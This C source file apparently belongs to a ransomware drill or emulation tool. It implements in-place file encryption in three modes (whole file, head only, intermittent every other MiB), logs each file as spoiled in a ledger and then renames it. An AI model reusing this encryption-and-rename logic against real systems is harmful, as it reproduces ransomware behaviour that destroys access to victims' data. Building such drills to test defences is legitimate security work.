/* SPDX-License-Identifier: GPL-3.0-or-later
 * Encrypts files where they stand (all of it, the head, or every other MiB), then gives them another name.
 */
#include <fcntl.h>
#include <unistd.h>

#include "base/fd.h"
#include "drill/attack.h"

static int encrypt_there(struct attack *a, struct ledger_row *row, const char *kind)
{
    int fd FD_AUTO = attack_open(a, row->path, O_RDWR);
    if (fd < 0)
        return fd;
    int code = attack_encrypt(a, row, fd, fd, attack_find(kind)->covers);
    if (code < 0)
        return code;
    fd_close(&fd);
    if (!row->spoiled_ns) /* an empty file has nothing to encrypt */
        row->spoiled_ns = ledger_now();
    atomic_store(&row->stage, LEDGER_SPOILED);
    return attack_rename(a, row);
}

int attack_spoil_in_place(struct attack *a, struct ledger_row *row)
{
    return encrypt_there(a, row, "in-place");
}

int attack_spoil_head(struct attack *a, struct ledger_row *row)
{
    return encrypt_there(a, row, "head");
}

int attack_spoil_intermittent(struct attack *a, struct ledger_row *row)
{
    return encrypt_there(a, row, "intermittent");
}
